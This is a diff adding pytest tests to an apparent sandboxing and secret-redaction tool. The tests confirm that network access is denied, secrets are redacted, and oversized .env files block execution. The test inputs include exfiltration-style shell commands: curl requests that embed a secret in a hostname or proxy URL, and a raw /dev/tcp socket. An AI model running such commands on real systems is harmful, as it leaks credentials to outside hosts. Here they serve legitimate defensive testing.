@@ -206,3 +206,27 @@ def test_no_false_hit(pinfold):
 @pytest.mark.slow
 def test_no_false_hit_in_100_mb(pinfold):
     no_false_hit(pinfold, 100 << 20)
+
+
+@pytest.mark.parametrize("mode", [["--json"], ["--json=stream"]])
+def test_what_is_told_beside_the_output(pinfold, mode):
+    """A name that was asked for, the hint made of it, the reason of the guard: none has the secret in it."""
+    secret = "7fA1b9Qx2ZpL8mNv"
+    policy = json.dumps({"guard": {"command": "audit"}}).encode()
+    done = pinfold.run(*mode, "--policy", "-", "--secret", "K=env:K", "--shell",
+                       f"curl -s http://{secret}.example.org/; cat /{secret}; curl -s -x http://127.0.0.1:3128 http://{secret}/",
+                       env={"K": secret}, stdin=policy)
+    assert "network.default=deny" in done.out and "[redacted:K]" in done.out, done
+    assert secret.lower() not in (done.out + done.err).lower(), done
+
+
+def test_no_command_runs_whose_output_cannot_be_looked_at(anyone, workspace):
+    where = workspace(anyone, {".env": "".join(f"A{i}_KEY=abcdEFGH{i:05}xyzQ\n" for i in range(300))})
+    r = anyone.result("--workspace", where, "--", "sh", "-c", "echo ran > ran.txt")
+    assert (r.cause, r.code) == ("error", 125) and "more than 256 secrets" in r.error
+    assert not r.changes or not r.changes["added"]
+
+
+def test_garbage_at_the_door_is_a_denial_and_no_more(anyone):
+    r = anyone.result("--", "bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'x\\r\\n\\r\\n' >&3; cat <&3 >/dev/null; echo on")
+    assert (r.cause, r.stdout) == ("exited", "on\n") and r.denials[0]["target"] is None
